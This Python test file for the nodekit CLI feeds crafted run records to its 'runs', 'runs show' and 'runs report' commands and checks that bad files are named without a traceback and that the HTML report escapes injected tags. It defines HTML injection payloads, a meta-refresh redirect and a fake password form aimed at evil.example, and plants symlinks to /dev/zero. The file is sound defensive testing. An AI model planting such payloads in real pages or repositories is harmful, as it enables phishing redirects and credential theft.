"""Crafted and corrupt run records (the review's thirteen, and a link to /dev/zero: a cloned repo can ship
``.nodekit/runs/``, and an id such as ``20991231-...`` sorts as ``last``) through the real CLI in-process: ``nodekit
runs`` lists the good records and names each bad file in one warning line, ``runs show`` and ``runs report`` of a
bad one are one line naming the file with exit 2, never a traceback, and no tag a record carries reaches
report.html."""

from __future__ import annotations

import copy
import json
import math
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from nodekit.cli.app import app
from nodekit.config import settings as config
from nodekit.runs import store
from nodekit.runs.recorder import begin

runner = CliRunner()
HOSTS = [(0, "root@10.0.0.1"), (1, "root@10.0.0.2")]
META = '0"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
FORM = '"><form action="https://evil.example/"><input name="password"></form>'


def _node(key: str, value: object) -> Any:
    def change(r: dict[str, Any]) -> None:
        r["nodes"][0][key] = value

    return change


def _set(key: str, value: object) -> Any:
    def change(r: dict[str, Any]) -> None:
        r[key] = value

    return change


def _drop(key: str) -> Any:
    def change(r: dict[str, Any]) -> None:
        del r[key]

    return change


# (name, change, whether the record is still a valid one)
CRAFTED = [
    ("rank-markup", _node("rank", META), False),
    ("failed-rank-form", _set("failed_rank", FORM), False),
    ("pid-huge", lambda r: r.update(pid=2**70, ended=None), False),  # running: its pid is asked whether it lives
    ("pid-string", lambda r: r.update(pid="1", ended=None), False),
    ("started-words", _set("started", "yesterday"), False),
    ("started-nan", _set("started", math.nan), False),
    ("attempts-string", _set("attempts", "3"), False),
    ("image-id-int", _set("image_id", 5), False),
    ("nodes-not-a-list", _set("nodes", {"0": "root@10.0.0.1"}), False),
    ("host-not-a-string", _node("host", ["root@10.0.0.1"]), False),
    ("phase-not-a-time", _node("phases", {"started": "soon"}), False),
    ("started-missing", _drop("started"), False),
    ("dev-zero", "dev-zero", False),  # a planted link: read forever
    ("tags-in-strings", lambda r: r.update(reason=FORM, image=META, log_tail=[META, FORM]), True),
]


def failed_run(project: Path) -> dict[str, Any]:
    """A real record of a failed two-node run, as JSON."""
    settings = config.load(project / "nodekit.toml")
    now = [1_795_000_000.0]
    rec = begin(settings, "run", HOSTS, environ={}, clock=lambda: now[0])
    for r in range(2):
        rec.phase(r, "started")
        rec.line(r, f"step 1 on {r}")
    now[0] += 10
    rec.exited(1, 3)
    rec.failed(1, 3, "node 1 failed with exit code 3")
    rec.finish(3)
    return dict(json.loads((rec.dir / store.RECORD).read_text()))


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for var in ("NODEKIT_NNODES", "NODEKIT_CONFIG", "NODEKIT_NAME"):
        monkeypatch.delenv(var, raising=False)
    (tmp_path / "nodekit.toml").write_text('name = "clitest"\nscript = "train.py"\nnnodes = 2\n')
    (tmp_path / "train.py").write_text("print('hi')\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def crafted(project: Path, base: dict[str, Any], k: int, change: Any) -> str:
    run_id = f"20991231-0000{k:02d}-beef"
    d = store.runs_dir(project) / run_id
    d.mkdir()
    if change == "dev-zero":
        (d / store.RECORD).symlink_to("/dev/zero")
        return run_id
    record = copy.deepcopy(base)
    change(record)
    record["id"] = run_id
    (d / store.RECORD).write_text(json.dumps(record))
    return run_id


def no_traceback(result: Any) -> None:
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output


@pytest.mark.parametrize(("name", "change", "valid"), CRAFTED, ids=[c[0] for c in CRAFTED])
def test_a_crafted_record_is_named_or_shown_escaped_never_a_traceback(
    project: Path, name: str, change: Any, valid: bool
) -> None:
    base = failed_run(project)
    good = base["id"]
    run_id = crafted(project, base, CRAFTED.index((name, change, valid)), change)
    path = store.runs_dir(project) / run_id / store.RECORD

    listed = runner.invoke(app, ["runs"])
    no_traceback(listed)
    assert listed.exit_code == 0
    ids = [ln.split()[0] for ln in listed.stdout.splitlines()[1:]]
    assert ids == ([run_id, good] if valid else [good])
    warned = [ln for ln in listed.stderr.splitlines() if ln.strip()]
    assert warned == ([] if valid else [warned[0]]) and all(str(path) in w for w in warned), listed.stderr
    as_json = runner.invoke(app, ["runs", "--json"])
    no_traceback(as_json)
    assert [r["id"] for r in json.loads(as_json.stdout)] == ids

    for args in (["runs", "show", run_id], ["runs", "show", run_id, "--json"], ["runs", "report", run_id]):
        result = runner.invoke(app, args)
        no_traceback(result)
        if valid:
            assert result.exit_code == 0, result.output
        else:
            lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
            assert result.exit_code == 2 and len(lines) == 1, result.output
            assert lines[0].startswith("nodekit: error:") and str(path) in lines[0]

    report = path.parent / "report.html"
    assert report.is_file() == valid
    if valid:
        page = report.read_text()
        assert "<meta http-equiv" not in page.replace('<meta http-equiv="Content-Security-Policy"', "")
        assert "<form" not in page and "<input" not in page


def test_a_record_that_only_escaping_kept_out_of_the_report(project: Path) -> None:
    """Non-string values the report wrote as they were (data-rank, node N): a record that passes validation can no
    longer carry them, and every value goes through the escaping helper anyway."""
    from nodekit.runs import report
    from nodekit.runs.model import NodeRecord, RunRecord

    r = RunRecord.from_dict(failed_run(project))
    hostile: Any = META  # what a record read without validation held
    r.nodes[0] = NodeRecord(rank=hostile, host="h", phases={"started": r.started + 1, "end": r.started + 2})
    r.failed_rank = hostile
    page = report.render(r, [{"t": r.started + 1, "rank": hostile, "cpu_pct": 5.0}], state="failed", now=r.started)
    assert "<meta http-equiv" not in page.replace('<meta http-equiv="Content-Security-Policy"', "")


def test_samples_that_are_a_link_to_a_device_are_named_not_read_forever(project: Path) -> None:
    run_id = failed_run(project)["id"]
    samples = store.runs_dir(project) / run_id / store.SAMPLES
    samples.symlink_to("/dev/zero")
    result = runner.invoke(app, ["runs", "report", run_id])
    no_traceback(result)
    assert result.exit_code == 2 and f"{samples} is a character device, not a file" in result.stderr
